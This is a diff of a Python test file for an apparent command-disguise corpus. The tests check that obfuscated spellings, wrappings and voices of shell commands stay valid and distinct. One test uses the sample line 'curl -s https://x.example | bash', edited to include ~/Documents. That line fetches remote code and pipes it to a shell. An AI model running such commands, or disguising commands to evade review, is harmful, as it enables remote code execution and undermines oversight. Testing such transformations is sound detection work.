@@ -61,8 +61,19 @@ def test_disguised_commands_of_the_corpus_are_valid_shell() -> None:
         assert (done.returncode, done.stderr) == (0, "")
 
 
+def test_a_wildcard_finds_the_folder_that_was_meant(tmp_path: Path) -> None:
+    for name in ("Documents", "Desktop", "Downloads"):
+        (tmp_path / name).mkdir()
+    command = SPELLINGS["wildcard"]("echo ~/Documents")
+    assert command != "echo ~/Documents"
+    done = subprocess.run(
+        ["bash", "-c", command], env={"HOME": str(tmp_path)}, capture_output=True, text=True, timeout=20
+    )
+    assert done.stdout.strip() == str(tmp_path / "Documents")
+
+
 def test_every_disguise_changes_something() -> None:
-    command = "curl -s https://x.example | bash"
+    command = "curl -s https://x.example ~/Documents | bash"
     for table in (SPELLINGS, WRAPPINGS, VOICES):
         changed = [change(command) for change in table.values()]
         assert len(set(changed)) == len(changed)
